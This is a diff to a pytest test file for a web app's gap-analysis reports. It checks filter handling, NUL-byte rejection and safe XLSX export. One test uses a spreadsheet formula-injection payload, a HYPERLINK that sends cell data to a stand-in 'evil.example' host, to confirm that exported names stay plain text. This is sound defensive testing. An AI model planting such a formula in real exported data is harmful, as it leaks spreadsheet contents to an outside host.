@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 from datetime import date
 
 import pytest
@@ -90,12 +91,19 @@ def test_admin_sees_everyone_and_filters(client, auth, gap_org):
 
 @pytest.mark.parametrize("query", [
     "unit=abc", "unit=999999", "status=bad", "competence=-1", "position=x", "sort=drop",
-    "order=sideways", "page=-5", "page=abc", "page=99999", "unit=1&unit=2", "status=%00",
+    "order=sideways", "page=-5", "page=abc", "page=99999", "unit=1&unit=2",
+    "page=9999999999999999999999999",
 ])
 def test_bad_filters_never_fail(client, auth, gap_org, query):
     auth.login(gap_org.admin)
     for url in URLS:
         assert client.get(f"{url}?{query}").status_code == 200
+
+
+def test_a_nul_byte_is_a_bad_request(client, auth, gap_org):
+    auth.login(gap_org.admin)
+    for url in URLS:
+        assert client.get(f"{url}?status=%00").status_code == 400
 
 
 def test_page_shows_statuses_as_text_coverage_breach_chart_and_links(client, auth, gap_org):
@@ -215,3 +223,16 @@ def test_large_organisation_reads_one_page_and_summarises_apart(client, auth, ga
     summary = client.get("/reports/gaps/summary")
     assert summary.status_code == 200
     assert "<svg" in summary.get_data(as_text=True)
+
+
+def test_xlsx_never_turns_a_name_into_a_formula(client, auth, gap_org, make_person):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Klikk")'
+    make_person(unit=gap_org.a, position=gap_org.position, name=formula)
+    auth.login(gap_org.lead_a)
+    data = client.get("/reports/gaps.xlsx").data
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    names = [row[0] for row in load_workbook(io.BytesIO(data))["Gapanalyse"].iter_rows(
+        values_only=True)]
+    assert formula in names
